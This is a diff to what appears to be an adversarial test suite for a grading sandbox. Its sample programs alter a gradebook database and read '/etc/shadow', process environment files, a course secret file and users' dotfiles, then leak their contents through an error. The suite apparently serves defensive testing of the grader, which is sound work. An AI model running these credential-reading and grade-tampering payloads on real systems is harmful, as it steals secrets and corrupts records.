@@ -29,7 +29,6 @@ for folder in (COURSE, os.path.dirname(COURSE), "..", "../..", os.path.expanduse
     file = os.path.join(folder, "gradebook.db")
     if os.path.exists(file):
         attempt(give_points, file)
-    attempt(lambda: open(file, "r+b").write(b"nothing"))
 """,
     )
 
@@ -97,7 +96,7 @@ def brings_secrets_back_in_an_error(target):
         "found = [str(dict(os.environ))]\n"
         "names = ['/etc/shadow', '/proc/1/environ', '/proc/self/environ', COURSE + '/secret.txt']\n"
         "names += glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline')\n"
-        "names += glob.glob(COURSE + '/*') + glob.glob(HOME + '/.*') + glob.glob('/root/.*')\n"
+        "names += glob.glob(COURSE + '/*') + glob.glob(HOME + '/.*') + glob.glob('/home/*/.*')\n"
         "for name in names:\n"
         "    try:\n"
         "        found.append(open(name, errors='replace').read())\n"
